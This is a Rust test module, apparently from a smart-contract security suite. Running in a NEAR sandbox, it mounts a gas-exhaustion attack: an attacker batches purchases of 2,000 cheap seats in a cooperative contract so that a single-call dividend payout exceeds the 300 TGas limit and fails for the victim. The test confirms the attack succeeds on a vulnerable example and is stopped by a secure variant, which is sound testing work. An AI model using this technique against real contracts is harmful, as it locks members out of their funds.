@@ -0,0 +1,88 @@
+//! Cheap seats grow the member list until payout no longer fits in a call
+
+use std::ops::Range;
+
+use anyhow::{ensure, Result as AnyResult};
+use near_workspaces::operations::Function;
+use near_workspaces::types::{Gas, NearToken};
+use near_workspaces::{Account, Contract};
+use serde_json::json;
+
+use crate::{ExploitSpec, Sandbox, CONTRACT_BALANCE};
+
+pub const SPEC: ExploitSpec = ExploitSpec {
+    example: "unbounded_views",
+    description: "2,000 seats push a single-call payout past the 300 TGas limit",
+    must_succeed: || Box::pin(attack("unbounded_views")),
+    must_fail: || Box::pin(attack("unbounded_views_secure")),
+    rejection: "payout still fits in one call",
+};
+
+pub const SEAT_PRICE: NearToken = NearToken::from_millinear(10);
+/// Members the attacker registers; 20 NEAR of seats
+pub const MEMBERS: u32 = 2_000;
+/// buy_seat calls per transaction, each with GAS_PER_SEAT attached
+const SEATS_PER_BATCH: usize = 40;
+const GAS_PER_SEAT: Gas = Gas::from_tgas(6);
+const DIVIDENDS: NearToken = NearToken::from_near(5);
+
+/// Buys one seat each for `seat-<n>.near`, n in `seats`, batching the
+/// calls. The accounts need not exist; payouts to them are refunded.
+pub async fn buy_seats(
+    payer: &Account,
+    cooperative: &Contract,
+    seats: Range<u32>,
+) -> AnyResult<()> {
+    let seats: Vec<u32> = seats.collect();
+    for chunk in seats.chunks(SEATS_PER_BATCH) {
+        let mut batch = payer.batch(cooperative.id());
+        for seat in chunk {
+            batch = batch.call(
+                Function::new("buy_seat")
+                    .args_json(json!({ "account_id": format!("seat-{seat}.near") }))
+                    .deposit(SEAT_PRICE)
+                    .gas(GAS_PER_SEAT),
+            );
+        }
+        batch.transact().await?.into_result()?;
+    }
+    Ok(())
+}
+
+async fn attack(contract: &'static str) -> AnyResult<()> {
+    let s = Sandbox::new().await?;
+    let cooperative = s
+        .deploy(contract, "cooperative", CONTRACT_BALANCE, json!({}))
+        .await?;
+    s.victim
+        .call(cooperative.id(), "buy_seat")
+        .args_json(json!({}))
+        .deposit(SEAT_PRICE)
+        .transact()
+        .await?
+        .into_result()?;
+    s.owner
+        .call(cooperative.id(), "fund_dividends")
+        .deposit(DIVIDENDS)
+        .transact()
+        .await?
+        .into_result()?;
+
+    buy_seats(&s.attacker, &cooperative, 0..MEMBERS).await?;
+
+    // The victim asks for their dividend with all the gas a call can have
+    let payout = s
+        .victim
+        .call(cooperative.id(), "payout")
+        .args_json(json!({}))
+        .max_gas()
+        .transact()
+        .await?;
+    ensure!(payout.is_failure(), "payout still fits in one call");
+    let failure = format!("{:?}", payout.into_result().unwrap_err());
+    ensure!(
+        failure.contains("Exceeded the"),
+        "payout failed for another reason: {failure}"
+    );
+    Ok(())
+}